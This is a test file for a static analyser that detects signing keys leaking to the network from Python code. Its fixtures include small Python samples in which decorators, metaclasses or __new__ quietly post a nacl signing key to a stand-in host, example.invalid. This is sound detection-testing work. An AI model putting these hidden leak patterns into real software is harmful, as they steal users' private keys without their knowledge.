import { expect, it } from 'vitest';
import { summaryOf, analyseSources } from './testing/analyseSources.ts';

const START = `import requests, nacl.signing
def send(x):
    requests.post('https://example.invalid', data=x)
`;
const tells = (body: string, takes = '*a, **n'): string => `${START}
def noted(f):
    def w(${takes}):
        ${body}
    return w
`;
const SIGNER = `
class Signer:
    @noted
    def __init__(self, k, url='x'):
        self.key = nacl.signing.SigningKey(k)
        self.url = url
    def ask(self):
        requests.get(self.url)
`;
const FUNCTION = `
@noted
def sign(k, m, url='x'):
    requests.get(url)
    return nacl.signing.SigningKey(k).sign(m)
`;
const TAGGED = `${START}import functools
def noted(tag):
    def decorate(f):
        @functools.wraps(f)
        def w(self, *a, **n):
            send(a)
            return f(self, *a, **n)
        return w
    return decorate
${SIGNER.replace('@noted', '@noted("a")')}`;
const OBJECT = `${START}
class noted:
    def __init__(self, f):
        self.f = f
    def __call__(self, *a):
        send(a[0])
        return self.f(*a)
${FUNCTION}`;
const META = (does: string): string => `${START}
class Meta(type):
    def __call__(cls, *a, **n):
        ${does}
        return super().__call__(*a, **n)
${SIGNER.replace('    @noted\n', '').replace('Signer:', 'Signer(metaclass=Meta):')}`;
const NEW = (does: string): string =>
  `${START}${SIGNER.replace(
    '    @noted\n',
    `    def __new__(cls, k, url='x'):\n        ${does}\n        return object.__new__(cls)\n`,
  )}`;

const CASES: readonly (readonly [what: string, text: string, isSent: boolean])[] = [
  ['what is made of a constructor', tells('send(a[1])\n        return f(*a, **n)') + SIGNER, true],
  ['what is made of a function', tells('send(a)\n        return f(*a, **n)') + FUNCTION, true],
  ['what is given by name', tells('send(n["k"])\n        return f(*a, **n)') + FUNCTION, true],
  ['a wrapper with names of its own', tells('send(x)\n        return f(o, x)', 'o, x') + SIGNER, true],
  ['a decorator that is given something', TAGGED, true],
  ['a decorator that is a class', OBJECT, true],
  ['what makes the class', META('send(a)'), true],
  ['what makes the object', NEW('send(k)'), true],
  [
    'a wrapper that hands one of all on',
    tells('tell(*a)\n        return f(*a)') + 'def tell(o, x, u="x"):\n    send(x)\n' + SIGNER,
    true,
  ],
  [
    'a wrapper that hands another on',
    tells('tell(*a)\n        return f(*a)') + 'def tell(o, x, u="x"):\n    send(u)\n' + SIGNER,
    false,
  ],
  ['a wrapper that tells another argument', tells('send(a[2])\n        return f(*a)') + SIGNER, false],
  ['a wrapper that takes a name out', tells('send(n.pop("url"))\n        return f(*a, **n)') + SIGNER, false],
  ['a wrapper that only hands on', tells('return f(*a, **n)') + SIGNER + FUNCTION, false],
  ['a wrapper that hands on the object', tells('return f(s, *a, **n)', 's, *a, **n') + SIGNER, false],
  ['a wrapper that hands on by name', tells('return f(o, x, u)', 'o, x, u="x"') + SIGNER, false],
  ['a wrapper that tells something else', tells('send(f.__name__)\n        return f(*a, **n)') + SIGNER, false],
  [
    'a wrapper of another function',
    `${tells('send(a)\n        return f(*a)')}\n@noted\ndef other(x):\n    pass\n`,
    false,
  ],
  ['a class whose maker only hands on', META('pass'), false],
  ['an object whose maker sends nothing', NEW('send(url)'), false],
];

it.each(CASES)('%s', async (_, text, isSent) => {
  const found = summaryOf(await analyseSources({ 'a.py': text }));
  expect(found.filter((one) => one.startsWith('key → network'))).toEqual(isSent ? ['key → network high (use)'] : []);
});
